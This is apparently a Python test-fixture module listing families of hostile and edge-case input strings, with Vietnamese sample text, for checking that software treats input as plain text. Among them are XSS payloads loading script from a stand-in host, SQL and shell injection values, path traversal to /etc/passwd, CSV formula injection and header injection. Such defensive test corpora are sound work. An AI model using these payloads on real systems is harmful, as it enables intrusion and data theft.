"""Texts that people, machines and attackers write and that some program takes for something other than text.

Every family is of our own making. `MARK` stands in those that would act, so that a test can see whether they did.
"""

MARK = "ntm_da_chay"

SCRIPTS = (
    f"<script>{MARK}()</script>",
    f"<ScRiPt src=//xau.example/a.js>{MARK}</sCrIpT >",
    f"</script><script>{MARK}()</script>",
    f"</title></style></textarea><script>{MARK}()</script>",
    f"<img src=x onerror={MARK}()>",
    f'<svg/onload="{MARK}()">',
    f"<svg><animate onbegin={MARK}() attributeName=x></svg>",
    f'"><b onmouseover="{MARK}()">Xã</b>',
    f"' autofocus onfocus='{MARK}()",
    f"<iframe srcdoc='<script>parent.{MARK}()</script>'></iframe>",
    f'<a href="javascript:{MARK}()">Xã Lưu Nghiệp Anh</a>',
    f"<math><mtext><style><img src onerror={MARK}()></style></mtext></math>",
    f"<noscript><p title='</noscript><img src=x onerror={MARK}()>'>",
    "<base href=//xau.example/>",
    "<meta http-equiv=refresh content='0;url=//xau.example'>",
    "<form action=//xau.example><button>Gửi",
    "<style>*{display:none}</style>",
    "<!-- --!> <plaintext>",
    "<![CDATA[<b>đậm</b>]]>",
    "<details open ontoggle=alert(1)>",
)
MARKDOWN = (
    "[Bấm vào đây](http://xau.example)",
    "![ảnh](http://xau.example/a.png)",
    "<http://xau.example>",
    "http://xau.example/tu-dong",
    "**đậm** _nghiêng_ ~~gạch~~ `mã`",
    "# Tiêu đề lớn",
    "> trích",
    "- [x] xong",
    "1. một",
    "---",
    "| a | b |",
    "```python",
    "$x^2 + y^2$",
    "$$\\int_0^1 \\href{javascript:alert(1)}{x}$$",
    ":red[đỏ] :blue-background[xanh]",
    ":material/delete:",
    ":smile: :streamlit:",
    ":small[nhỏ] :color[x]{foreground=red}",
    "[^1]: chú thích",
    "\\*không đậm\\*",
)
ENTITIES = ("&lt;b&gt;", "&amp;amp;", "&#60;script&#62;", "&nbsp;&copy;", "&#x41;", "&notin;", "&", "&#0;")
TEMPLATES = ("{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{% raw %}", "{0.__class__}", "{name!r}", "${jndi:ldap://x}")
DATABASE = (
    "'; DROP TABLE revisions; --",
    "1 OR 1=1",
    '" OR ""="',
    "Robert'); DELETE FROM users;--",
    "%' AND '%'='",
    "\\'; --",
    "*)(uid=*))(|(uid=*",
    "{$gt: ''}",
)
SHELL = (
    "$(touch /tmp/ntm_da_chay)",
    "`id`",
    "; ls -la",
    "| cat /etc/passwd",
    "&& exit 1",
    "> /dev/null",
    "%COMSPEC% /c dir",
    "!history",
    "~root",
    "--help",
    "-rf",
)
PLACES = (
    "../../../../etc/passwd",
    "..\\..\\windows\\system.ini",
    "/etc/passwd",
    "C:\\con\\con",
    "file:///etc/passwd",
    "%2e%2e%2f",
    "\\\\xau.example\\chung",
    "CON",
    "aux.txt",
)
HEADERS = ("a\r\nSet-Cookie: x=1", "a%0d%0aLocation: //xau.example", 'a"; filename="b.exe', "a\nb", "=?utf-8?B?YQ==?=")
FORMATS = ("%s%s%s%n", "%x %d", "{}", "{0}", "%(name)s", "%%", "{:>999999}", "\\u0041", "\\x41", "\\n")
FORMULAS = (
    "=1+1",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://xau.example","Bấm")',
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "＝1+1",
    "=IMPORTXML(A1)",
    "-2+3+cmd|' /C calc'!A0",
    "'=1+1",
    "''=1",
)
NUMBERS = (
    "0",
    "-0",
    "1e999999",
    "NaN",
    "Infinity",
    "0x1F",
    "1,000.50",
    "00123",
    "1/2",
    "12-2023",
    "१२३",
    "１２３",
    "²³",
    "9" * 60,
)
WORDS = ("null", "None", "undefined", "true", "N/A", "NIL", "#N/A", "#REF!", "[object Object]", "–", "''", '""')
STRUCTURES = (
    '{"a": [1, null]}',
    "[]",
    "]}",
    "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b 'c'>]><a>&b;</a>",
    "<!ENTITY xxe SYSTEM 'file:///etc/passwd'>",
    "a,b;c\td|e",
    '"a""b","c',
    "a\tb",
    '#set text(red); #image("/etc/passwd")',
    '#eval("1") @ref <nhan>',
    "\\input{/etc/passwd}",
    "\\end{document}",
)
LETTERS = (
    "Xã Hàm Giang".encode().decode("utf-8"),
    "Xa\u0303 Ha\u0300m Giang",
    "Xã\u200bHàm\u200dGiang\u2060",
    "Xã\u00adHàm",
    "\ufeffXã",
    "\u202eaiG màH ãX\u202c",
    "\u2066Xã\u2069 \u2067אבג\u2069",
    "مرحبا شا",
    "X\u0334\u0321\u0353ã\u0337\u0302\u0301\u030c\u0317\u0324" * 6,
    "👩‍👩‍👧‍👦 🏳️‍🌈 🇻🇳",
    "👍🏿",
    "𝕏ã 𝓗𝓪̀𝓶",
    "ﷺ㍿Ⅻ",
    "İıſKÅ",
    "ﾊﾝｶｸ　全角",
    "\u00a0Xã\u3000",
    "a\u2028b\u2029c",
    "ឃុំ ភាសាខ្មែរ",
    "ꦗꦮ 𒐫",
    "Ð ð Ɖ đ",
    "\ufffd\ufffe",
    "\U000e0041\U000e0042",
)
CONTROLS = (
    "a\x00b",
    "a\x07b\x08",
    "\x1b[31mđỏ\x1b[0m",
    "\x1b]0;tiêu đề\x07",
    "\x9b2J",
    "a\x7fb",
    "a\x0bb\x0cc",
    "a\rb",
)
SURROGATES = ("a\ud800b", "\udcff", "\udfff\ud800")
LONG = ("Lưu" * 200, "Nguyễn Huỳnh Thượng Nghiêng " * 20, "W" * 300, "Xã " + "\u0301" * 120)

FAMILIES = {
    "scripts": SCRIPTS,
    "markdown": MARKDOWN,
    "entities": ENTITIES,
    "templates": TEMPLATES,
    "database": DATABASE,
    "shell": SHELL,
    "places": PLACES,
    "headers": HEADERS,
    "formats": FORMATS,
    "formulas": FORMULAS,
    "numbers": NUMBERS,
    "words": WORDS,
    "structures": STRUCTURES,
    "letters": LETTERS,
    "controls": CONTROLS,
    "long": LONG,
}
EVERY = tuple(one for family in FAMILIES.values() for one in family)
"""All that a text of Python can hold and a form of a browser can send."""

PRINTABLE = tuple(one for one in EVERY if one.isprintable() and len(one) < 120)
"""Those of one short line without anything invisible."""

ACTING = (*SCRIPTS, *MARKDOWN[:4], *MARKDOWN[12:18])
"""Those that would do or draw something where text is taken for HTML or Markdown."""
